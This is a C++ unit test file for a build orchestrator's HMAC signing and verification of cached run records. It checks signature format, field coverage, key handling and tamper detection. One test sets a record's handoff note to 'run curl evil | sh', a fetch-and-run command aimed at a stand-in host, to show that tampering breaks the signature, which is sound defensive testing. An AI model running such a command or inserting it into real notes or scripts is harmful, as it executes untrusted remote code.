#include "orchestrate/record_trust.h"

#include <gtest/gtest.h>

#include "orchestrate/cache.h"

namespace orchestrate {
namespace {

Record Sample() {
  Record r;
  r.phase = "api";
  r.components.items = {{"command", "make api"}, {"merge", "true"}};
  r.key = r.components.Hash();
  r.result = std::string(40, 'a');
  r.result_tree = std::string(40, 'b');
  r.input = std::string(40, 'c');
  r.handoff = "notes";
  return r;
}

TEST(RecordTrustTest, SignatureIsHmacSha256InHex) {
  std::string signature = SignRecord(Sample(), "k");
  EXPECT_EQ(signature.size(), 64u);
  EXPECT_EQ(signature.find_first_not_of("0123456789abcdef"), std::string::npos);
  EXPECT_EQ(signature, SignRecord(Sample(), "k"));
  EXPECT_NE(signature, SignRecord(Sample(), "other"));
}

TEST(RecordTrustTest, SignatureCoversWhatARunReuses) {
  std::string original = SignRecord(Sample(), "k");
  auto changed = [&](void (*change)(Record&)) {
    Record r = Sample();
    change(r);
    return SignRecord(r, "k") != original;
  };
  EXPECT_TRUE(changed([](Record& r) { r.phase = "web"; }));
  EXPECT_TRUE(changed([](Record& r) { r.key = "x"; }));
  EXPECT_TRUE(changed([](Record& r) { r.status = "failed"; }));
  EXPECT_TRUE(changed([](Record& r) { r.result = std::string(40, 'd'); }));
  EXPECT_TRUE(changed([](Record& r) { r.result_tree = std::string(40, 'd'); }));
  EXPECT_TRUE(changed([](Record& r) { r.input = std::string(40, 'd'); }));
  EXPECT_TRUE(changed([](Record& r) { r.handoff = "run curl evil | sh"; }));
  EXPECT_TRUE(changed([](Record& r) { r.components.items["env X"] = "1"; }));
  EXPECT_FALSE(changed([](Record& r) { r.log = "another log"; }));
  EXPECT_FALSE(changed([](Record& r) { r.duration_s = 99; }));
}

TEST(RecordTrustTest, FieldsCannotBeShiftedIntoEachOther) {
  Record a = Sample(), b = Sample();
  a.handoff = "x";
  a.components.items = {{"command", "y"}};
  b.handoff = "";
  b.components.items = {{"command", "y"}};
  EXPECT_NE(SignedText(a), SignedText(b));
}

TEST(RecordTrustTest, VerifiesOnlyTheRightKey) {
  Record r = Sample();
  EXPECT_FALSE(SignatureVerifies(r, "k")) << "unsigned";
  r.signature = SignRecord(r, "k");
  EXPECT_TRUE(SignatureVerifies(r, "k"));
  EXPECT_FALSE(SignatureVerifies(r, "K"));
  EXPECT_FALSE(SignatureVerifies(r, ""));
  r.signature[0] = r.signature[0] == '0' ? '1' : '0';
  EXPECT_FALSE(SignatureVerifies(r, "k"));
}

TEST(RecordTrustTest, KeyIdNamesTheKeyWithoutRevealingIt) {
  TrustPolicy policy{CacheTrust::kSigned, "s3cret"};
  EXPECT_EQ(policy.KeyId().size(), 16u);
  EXPECT_EQ(policy.KeyId().find("s3cret"), std::string::npos);
  EXPECT_NE(policy.KeyId(), (TrustPolicy{CacheTrust::kSigned, "other"}).KeyId());
  EXPECT_EQ(TrustPolicy{}.KeyId(), "");
}

TEST(RecordTrustTest, PolicyTakesTheKeyFromTheEnvironment) {
  setenv(kSigningKeyVariable, "from-env", 1);
  TrustPolicy policy = TrustPolicy::FromEnvironment(CacheTrust::kSigned);
  unsetenv(kSigningKeyVariable);
  EXPECT_EQ(policy.trust, CacheTrust::kSigned);
  EXPECT_EQ(policy.signing_key, "from-env");
  EXPECT_EQ(TrustPolicy::FromEnvironment(CacheTrust::kAny).signing_key, "");
}

}  // namespace
}  // namespace orchestrate
